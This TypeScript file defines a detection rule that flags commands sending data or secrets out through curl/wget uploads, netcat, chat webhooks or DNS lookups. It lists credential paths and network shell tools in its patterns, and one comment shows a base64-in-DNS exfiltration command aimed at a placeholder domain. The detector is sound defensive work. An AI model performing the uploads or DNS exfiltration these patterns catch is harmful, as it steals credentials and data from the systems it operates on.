import { canonicalIp, isInternal } from '../../base/ip.ts'
import type { Invocation } from '../../commands/parse.ts'
import { defineDetection } from '../api.ts'
import { suffixIn } from '../names.ts'
import { excerpt, whom } from '../words.ts'
import { dropNames } from './drop-names.ts'

const secret =
  /\.ssh\b|id_(?:rsa|ed25519|ecdsa)|\.aws\b|credentials|\.env\b|\/etc\/(?:passwd|shadow)|\.kube\b|\.netrc|\.git-credentials|serviceaccount|environ\b|token|secret|\.pem\b|\.docker\/config/i

export const uploadCommand = defineDetection({
  id: 'exfiltration.upload-command',
  name: 'Data sent to a drop place by command',
  kind: 'exfiltration',
  severity: 'low',
  confidence: 0.6,
  attack: ['T1567', 'T1048'], // Exfiltration Over Web Service, Over Alternative Protocol
  listensTo: ['execute_tool'],
  needs: /[\s"'](?:-[TFd]|--(?:upload|form|data|post|body))|\b(?:nc|ncat|netcat|hexdump|od)\b/,
  falsePositives: ['A task that shares a file through such a service', 'Tests of an upload'],
  blindSpots: ['Uploads through allowed hosts: git, package publishing, model APIs'],
  response: ['See what was in the file', 'Rotate any secret it held'],
  options: {},

  start({ reading }) {
    return (item) => {
      const { invocations } = reading(item)
      for (const [i, invocation] of invocations.entries()) {
        const found = judge(invocation)
        if (!found) continue
        const before = invocations
          .slice(Math.max(0, i - 4), i)
          .filter((b) => /^(?:cat|tar|env|printenv|zip|base64|gzip|xxd|find)$/.test(b.program))
        const text = [invocation, ...(invocation.pipedFrom === undefined ? [] : before)]
          .map((b) => b.argv.join(' '))
          .join(' ')
        const secrets =
          secret.test(text) || invocation.pipedFrom === 'env' || invocation.pipedFrom === 'printenv'
        if (!found.drop && !secrets) continue
        return {
          title: `${whom(item)} sent ${secrets ? 'what looks like secrets' : 'data'} to ${found.host}`,
          why: `\`${excerpt(invocation.argv)}\` sends data${found.drop ? ' to where anyone may leave it' : ' to an outside address'}.`,
          evidences: [item],
          destinations: [found.host],
          severity: secrets ? (found.drop ? 'high' : 'medium') : 'low',
          confidence: secrets ? 0.8 : 0.6,
        }
      }
      return undefined
    }
  },
})

function judge({ program, argv, pipedFrom }: Invocation): { host: string; drop: boolean } | undefined {
  if (program === 'curl' || program === 'wget' || program === 'http' || program === 'xh') {
    const uploads = argv.some((word) =>
      /^(?:-T|--upload-file|-F|--form|-d|--data|--data-binary|--data-raw|--data-urlencode|--post-file|--body-file|--post-data)(?:=|$)|^-[Fd].+|^-T.+/.test(
        word,
      ),
    )
    const fromFile =
      argv.some((word) => /@|^-T|--upload-file|--post-file/.test(word)) || pipedFrom !== undefined
    if (!uploads) return undefined
    for (const word of argv.slice(1)) {
      const match = /^(?:https?:\/\/)?(?:[^@/\s]{0,64}@)?([A-Za-z0-9.-]{3,253})(?::\d{1,5})?(?:[/?#]|$)/.exec(
        word,
      )
      if (!match || word.startsWith('-') || word.startsWith('@')) continue
      const host = match[1]!.toLowerCase()
      if (suffixIn(host, dropNames) !== undefined) return { host, drop: true }
      if (word.startsWith('http') && fromFile) {
        const ip = canonicalIp(host)
        if (ip !== undefined && !isInternal(ip)) return { host: ip, drop: false }
      }
      // Chat services' incoming hooks take anything.
      if (
        /^https:\/\/(?:discord(?:app)?\.com\/api\/webhooks|hooks\.slack\.com\/|api\.telegram\.org\/bot)/.test(
          word,
        ) &&
        fromFile
      )
        return { host, drop: true }
    }
    return undefined
  }
  if (program === 'dig' || program === 'nslookup' || program === 'host') {
    // `dig $(base64 -w0 file).example.com`: the lookup itself carries the data.
    const carrier = argv.find((word) =>
      /\b(?:base64|xxd|hexdump|od)\b[^)`]{0,200}[)`]\.[\w.-]{3,}/.test(word),
    )
    if (carrier !== undefined) return { host: carrier.slice(carrier.lastIndexOf(')') + 2), drop: true }
  }
  if (/^(?:nc|ncat|netcat)$/.test(program)) {
    const host = argv.find((word) => suffixIn(word.toLowerCase(), dropNames) !== undefined)
    if (host !== undefined) return { host, drop: true }
    const ip = argv.map((word) => canonicalIp(word)).find((word) => word?.includes('.') && !isInternal(word))
    return ip !== undefined && /^(?:cat|tar|gzip|base64|zip|env|printenv)$/.test(pipedFrom ?? '')
      ? { host: ip, drop: false }
      : undefined
  }
  return undefined
}
